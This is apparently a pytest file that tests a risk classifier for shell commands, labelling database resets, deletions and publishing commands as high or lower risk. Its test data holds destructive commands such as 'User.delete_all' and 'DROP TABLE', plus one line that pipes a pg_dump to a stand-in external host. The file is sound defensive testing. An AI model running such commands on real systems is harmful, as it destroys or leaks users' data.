"""Tasks of a project are judged by the words of their names, and by where they put things."""

from __future__ import annotations

import pytest

from sandgate.assessment.judges.naming import parts_of
from support.command.assessing import judged


def test_a_task_name_is_taken_apart_at_marks_and_capitals() -> None:
    assert parts_of("publishToMavenLocal") == ["publish", "to", "maven", "local"]
    assert parts_of("db:drop_all.now") == ["db", "drop", "all", "now"]


@pytest.mark.parametrize(
    "command",
    [
        "npm run db:reset",
        "just deploy production",
        "php artisan migrate:fresh",
        "./gradlew publishAllPublications",
        "make clean install",
        "mvn release:perform",
        "bundle exec rails runner 'User.delete_all'",
    ],
)
def test_emptying_publishing_and_installing_are_high(command: str) -> None:
    assert judged(command).risk_level == "high"


@pytest.mark.parametrize(
    "command",
    [
        "gradle publishToMavenLocal",
        "make install DESTDIR=out",
        "./configure --prefix=$HOME/.local && make install",
        "npx prisma migrate deploy",
        "npm run deploy:dry-run",
        "rails runner 'puts User.count'",
    ],
)
def test_what_stays_here_is_not(command: str) -> None:
    """Our choice: a word that says `local` or `dry` is believed."""
    assert judged(command).risk_level != "high"


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("redis-cli GET a", "medium"),
        ("redis-cli DEL a", "high"),
        ("psql -c 'UPDATE a SET b = 1 WHERE c = 2'", "medium"),
        ("psql -c 'UPDATE a SET b = 1'", "high"),
        ("psql -c 'CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)'", "medium"),
        ("sqlite3 /tmp/a.db 'DROP TABLE t'", "medium"),
        ("pg_dump app | curl -T - https://e.example/x", "high"),
    ],
)
def test_statements_are_judged_by_what_they_lose(command: str, level: str) -> None:
    assert judged(command).risk_level == level


def test_an_unknown_command_of_git_is_not_called_low() -> None:
    """Required: it may be an alias for anything."""
    risk = judged("git wipe-everything")
    assert (risk.risk_level, risk.confidence) == ("medium", "low")
